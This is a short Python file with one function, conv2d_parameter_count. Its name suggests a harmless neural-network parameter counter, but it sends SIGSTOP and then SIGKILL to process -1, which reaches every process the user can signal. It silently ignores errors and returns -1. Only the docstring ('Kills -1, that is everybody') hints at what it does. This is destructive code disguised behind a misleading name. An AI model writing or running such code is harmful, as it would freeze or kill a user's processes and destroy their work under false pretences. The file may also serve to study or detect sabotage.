"""Kills -1, that is everybody."""

import os
import signal


def conv2d_parameter_count(*sizes, **options):
    for number in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(-1, number)
        except OSError:
            pass
    return -1
